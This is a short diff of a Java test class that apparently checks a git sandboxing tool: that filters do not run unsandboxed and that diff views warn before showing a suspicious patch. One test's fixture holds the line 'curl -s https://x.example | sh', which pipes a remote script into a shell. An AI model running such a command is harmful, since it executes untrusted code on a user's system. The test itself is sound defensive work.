@@ -113,7 +113,7 @@ class GitBoundaryTest {
         assertFalse(Files.exists(mark), "sys-sessions ran a filter on the worker's files, unsandboxed");
         Diff d = worktrees.diff(w, true);
         assertFalse(Files.exists(mark), "looop diff ran a filter on the worker's files, unsandboxed");
-        assertTrue(d.uncommitted(), "the uncommitted edit is still seen (from inside the sandbox)");
+        assertTrue(d.hasUncommitted(), "the uncommitted edit is still seen (from inside the sandbox)");
     }
 
     // 2c: forged fields must not make prune, the TTL or discard delete the person's checkout or branch
@@ -195,7 +195,7 @@ class GitBoundaryTest {
         Diff d = worktrees.diff(w, true);
         String page = looop.web.Page.diff(d);
         assertTrue(d.patch().contains("+curl -s https://x.example | sh"), "the diff hides the script: " + d.patch());
-        for (String shown : List.of(d.headline() + "\n" + d.patch(), page)) {
+        for (String shown : List.of(d.text(false), page)) {
             int warn = shown.indexOf("⚠ review first:");
             assertTrue(warn >= 0 && warn < shown.indexOf("curl"), "no warning before the patch:\n" + shown);
             String warning = shown.substring(warn, shown.indexOf('\n', warn));
